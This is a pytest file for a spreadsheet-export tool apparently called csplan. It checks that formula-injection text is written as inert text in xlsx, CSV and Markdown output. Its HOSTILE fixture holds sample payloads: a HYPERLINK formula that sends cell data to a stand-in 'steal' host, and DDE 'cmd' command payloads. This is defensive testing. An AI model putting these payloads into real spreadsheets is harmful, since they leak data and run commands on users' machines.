"""Formula injection: text from data is never a formula in the workbook, the CSV or
the Markdown csplan writes; the only formulas are csplan's own totals."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from conftest import FolderCopy
from csplan.cli import app

runner = CliRunner()

HOSTILE = {
    "S01": '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")',
    "S02": "+1+cmd|' /C calc'!A0",
    "S03": "-2+3",
    "S04": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# csplan's own formulas: totals over rows above and the summary's counts.
OWN_FORMULA = re.compile(
    r"=(SUM\([A-Z]\d+:[A-Z]\d+\)|0|Savings![A-Z]\d+|(COUNTIF|SUMIF)\(Savings!.*\)"
    r"|[A-Z]\d+-[A-Z]\d+"  # a variance: forecast - target
    r"|[A-Z]\d+\+[A-Z]\d+-[A-Z]\d+"  # the programme's carried: slipped out + replaced - brought fwd
    r'|IF\(\$?[A-Z]\$?\d+=0,"",[A-Z]\d+/\$?[A-Z]\$?\d+\)'  # a percentage or share, exact
    r'|IF\([A-Z]\d+=0,"",ROUNDDOWN\([A-Z]\d+/[A-Z]\d+,3\)\)'  # % of target, shown rounded down
    r'|IF\([A-Z]\d+=0,"",[A-Z]\d+/ABS\([A-Z]\d+\)\)'  # % of budget, by the budget's size
    r"|('[A-Za-z ]+'|[A-Za-z]+)!\$[A-Z]\$\d+)"  # the Summary linked to a sheet's total
)


@pytest.fixture
def hostile(tmp_path: Path, folder_copy: FolderCopy) -> Path:
    """The illustrative data with P07 returns whose notes begin as formulas do, imported
    from a CSV (as a spreadsheet from outside would bring them), and a description
    beginning with a tab."""
    data = folder_copy("illustrative")
    text = (data / "savings.yaml").read_text(encoding="utf-8")
    old = "description: Children's Centre review"
    assert text.count(old) == 1
    (data / "savings.yaml").write_text(text.replace(old, 'description: "\\t=1+2 Children\'s Centre review"'))
    returns = tmp_path / "returns.csv"
    with returns.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "period", "forecast", "note"])
        for saving, note in HOSTILE.items():
            writer.writerow([saving, "P07", "29000", note])
    result = runner.invoke(app, ["--data", str(data), "savings", "import", str(returns), "--replace"])
    assert result.exit_code == 0, result.output
    return data


def test_workbook_text_is_string_cells_and_formulas_are_csplans_own(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    result = runner.invoke(app, ["--data", str(hostile), "export", str(out), "--period", "P07"])
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    savings = book["Savings"]
    notes = {row[0].value: row[13] for row in savings.iter_rows(min_row=2) if row[0].value in HOSTILE}
    assert {saving: cell.value for saving, cell in notes.items()} == HOSTILE
    assert {cell.data_type for cell in notes.values()} == {"s"}
    s06 = next(row[1] for row in savings.iter_rows(min_row=2) if row[0].value == "S06")
    assert (s06.value, s06.data_type) == ("\t=1+2 Children's Centre review", "s")
    bridge = [row[1] for row in book["Budget variance"].iter_rows() if isinstance(row[1].value, str)]
    label = next(cell for cell in bridge if cell.value.startswith("= "))
    assert label.value == "= 2025-26 budget" and label.data_type == "s"  # was a formula: Err:509
    formulas = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas and all(OWN_FORMULA.fullmatch(formula) for formula in formulas), formulas


def test_csv_text_gets_the_leading_apostrophe(hostile: Path) -> None:
    result = runner.invoke(app, ["--data", str(hostile), "savings", "status", "--period", "P07", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert {saving: rows[saving]["note"] for saving in HOSTILE} == {s: "'" + note for s, note in HOSTILE.items()}
    assert rows["S06"]["description"] == "'\t=1+2 Children's Centre review"
    # numbers are numbers, not text: a negative variance keeps its sign
    assert all(re.fullmatch(r"-?\d+(\.\d+)?|", row["variance"]) for row in rows.values())


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_lead_is_defused(lead: str) -> None:
    from csplan.render.tables import as_plain_text, csv_text

    assert as_plain_text(f"{lead}1+1") == f"'{lead}1+1"
    # a carriage return is a control character: CSV shows it escaped, which is plain text too
    assert csv_text(f"{lead}1+1") == (f"'{lead}1+1" if lead != "\r" else "\\x0d1+1")
    assert as_plain_text("1+1") == "1+1" and as_plain_text("Review") == "Review"


def test_markdown_shows_text_as_text(hostile: Path) -> None:
    result = runner.invoke(
        app, ["--data", str(hostile), "savings", "status", "--period", "P07", "--format", "markdown"]
    )
    assert result.exit_code == 0, result.output
    row = next(line for line in result.stdout.splitlines() if line.startswith("| S01 |"))
    # not a formula when pasted into a spreadsheet (Markdown's backslash escapes the
    # lead), and no live Markdown or HTML
    assert '| \\=HYPERLINK("http://example.invalid/steal?d="\\&A1,"Click for details") |' in row
    s02 = next(line for line in result.stdout.splitlines() if line.startswith("| S02 |"))
    assert "| \\+1+cmd\\|' /C calc'!A0 |" in s02
    # Rendered, the table shows the text exactly as the data has it: the escapes vanish.
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").render(result.stdout)
    link = "=HYPERLINK(&quot;http://example.invalid/steal?d=&quot;&amp;A1,&quot;Click for details&quot;)"
    assert f"<td>{link}</td>" in html
    assert "<td>+1+cmd|' /C calc'!A0</td>" in html


def test_markdown_escapes_links_and_html() -> None:
    from csplan.render.tables import Column, Section, Table, to_markdown

    table = Table(None, [Column("note", "Note", "text")], rows=[{"note": "[x](http://e.invalid) <img src=x> *b*"}])
    text = to_markdown([Section(table=table)])
    assert "\\[x\\](http://e.invalid) \\<img src=x> \\*b\\*" in text


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed; .ci/run installs it"
)
def test_libreoffice_shows_text_as_text_and_computes_only_totals(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.xlsx"
    assert runner.invoke(app, ["--data", str(hostile), "export", str(out), "--period", "P07"]).exit_code == 0
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            every_sheet,
            "--outdir",
            str(tmp_path),
            str(out),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheets = {
        name: list(csv.reader((tmp_path / f"out-{name}.csv").open(encoding="utf-8")))
        for name in ("Savings", "Budget variance", "Summary")
    }
    cells = [cell for rows in sheets.values() for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("Err:", "#NAME", "#VALUE", "#REF"))]
    assert "= 2025-26 budget" in [row[1] for row in sheets["Budget variance"] if len(row) > 1]  # was Err:509
    notes = {row[0]: row[13] for row in sheets["Savings"] if row and row[0] in HOSTILE}
    assert notes == HOSTILE  # shown as typed, not run
    total = next(row for row in sheets["Savings"] if row and row[0] == "Total")
    assert total[5] == "3258000"  # csplan's own totals are still live formulas
